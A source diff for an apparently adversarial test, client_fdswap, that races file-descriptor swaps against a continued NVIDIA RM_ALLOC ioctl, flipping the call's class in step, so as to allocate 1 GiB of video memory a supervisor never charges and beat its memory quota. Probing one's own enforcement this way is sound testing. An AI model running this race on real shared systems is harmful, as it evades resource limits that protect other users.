@@ -8,10 +8,14 @@
  * number again after CONTINUE. Here a swapper keeps dup2'ing, onto the
  * number N the calls use, now a fresh control file (no client: the call
  * is continued) and now the session's file S (which holds a client and
- * 768 MiB), while a flipper thread turns the class from a client (0) into
- * 1 GiB of video memory under S's client. A continued call that the
- * kernel then runs on S with the flipped class allocates 1 GiB that the
- * supervisor never charged: the fake's peak goes over --mem 1g.
+ * 768 MiB), and flips the class in step: a client (0) with the fresh
+ * file, 1 GiB of video memory under S's client with S. A continued call
+ * that the kernel then runs on S with the flipped class allocates 1 GiB
+ * that the supervisor never charged: the fake's peak goes over --mem 1g.
+ * (A third thread flipping on its own, as client_flip.c does, wins too,
+ * but less often: the flips in step with the swaps make the baseline win
+ * within the attempts every time.) The call struct lives in shared memory,
+ * so that the swapper of another tgid reaches it as a thread would.
  *
  *   client_fdswap thread   the swapper is a thread of this process
  *   client_fdswap proc     the swapper is a process of another tgid that
@@ -54,20 +58,11 @@
 #define BUSY_THREADS 6
 #define BUSY_CLIENTS 300
 
-static volatile struct nvos64 call;
+/* In shared memory (see main): the swapper of another tgid writes it. */
+static volatile struct nvos64 *call;
 static struct nv_memory_allocation_params gib;
 static atomic_bool stop;
 static int session_fd;
-
-static void *flipper(void *arg)
-{
-	(void)arg;
-	while (!atomic_load(&stop)) {
-		call.h_class = NV01_ROOT;
-		call.h_class = NV01_MEMORY_LOCAL_USER;
-	}
-	return NULL;
-}
 
 /* Runs until killed (the process) or told to stop (the thread). */
 static int swap_loop(void *arg)
@@ -75,7 +70,9 @@ static int swap_loop(void *arg)
 	(void)arg;
 	while (!atomic_load(&stop)) {
 		dup2(FRESH_SLOT, FD_N);
+		call->h_class = NV01_ROOT;
 		dup2(session_fd, FD_N);
+		call->h_class = NV01_MEMORY_LOCAL_USER;
 	}
 	return 0;
 }
@@ -143,11 +140,11 @@ static int attempt(int i, int *refused)
 	dup2(fresh, FRESH_SLOT);
 	close(fresh);
 	dup2(FRESH_SLOT, FD_N);
-	call.h_object_new = H_SWAP0 + (nv_handle_t)i;
-	call.status = 0;
+	call->h_object_new = H_SWAP0 + (nv_handle_t)i;
+	call->status = 0;
 	int made = 0;
-	if (syscall(SYS_ioctl, FD_N, NV_IOC_WORD(NV_ESC_RM_ALLOC, sizeof(call)), (void *)&call) == 0) {
-		if (call.status == NV_OK)
+	if (syscall(SYS_ioctl, FD_N, NV_IOC_WORD(NV_ESC_RM_ALLOC, sizeof(*call)), (void *)call) == 0) {
+		if (call->status == NV_OK)
 			made = 1;
 		else
 			(*refused)++;
@@ -161,7 +158,7 @@ int main(int argc, char **argv)
 	struct rmc_session s;
 	struct adv_tally t = { 0 };
 	int made = 0, refused = 0, i, won = 0;
-	pthread_t flip, swap;
+	pthread_t swap;
 	pid_t swap_pid = -1;
 
 	adv_session_or_die(&s, -1, "client_fdswap");
@@ -174,15 +171,19 @@ int main(int argc, char **argv)
 		return 0;
 	}
 	rmc_fill_vidmem_params(&gib, s.client, 4 * ADV_CHUNK);
-	call.h_root = s.client;
-	call.h_object_parent = s.device;
-	call.h_class = NV01_ROOT;
-	call.p_alloc_parms = (uintptr_t)&gib;
+	call = mmap(NULL, sizeof(*call), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
+	if (call == MAP_FAILED) {
+		printf("client_fdswap: setup failed\n");
+		return ADV_EXIT_SETUP;
+	}
+	call->h_root = s.client;
+	call->h_object_parent = s.device;
+	call->h_class = NV01_ROOT;
+	call->p_alloc_parms = (uintptr_t)&gib;
 	if (rmc_open_ctl() < 0 || dup2(s.fd, FRESH_SLOT) < 0 || dup2(s.fd, FD_N) < 0) {
 		printf("client_fdswap: setup failed\n");
 		return ADV_EXIT_SETUP;
 	}
-	pthread_create(&flip, NULL, flipper, NULL);
 	if (as_proc) {
 		char *stack = mmap(NULL, SWAPPER_STACK, PROT_READ | PROT_WRITE,
 		                   MAP_PRIVATE | MAP_ANONYMOUS | MAP_STACK, -1, 0);
@@ -203,7 +204,6 @@ int main(int argc, char **argv)
 	} else {
 		pthread_join(swap, NULL);
 	}
-	pthread_join(flip, NULL);
 	won = won || driver_over_quota();
 	printf("swapper=%s attempts=%d made=%d refused=%d won=%d\n", as_proc ? "proc" : "thread", i,
 	       made, refused, won);
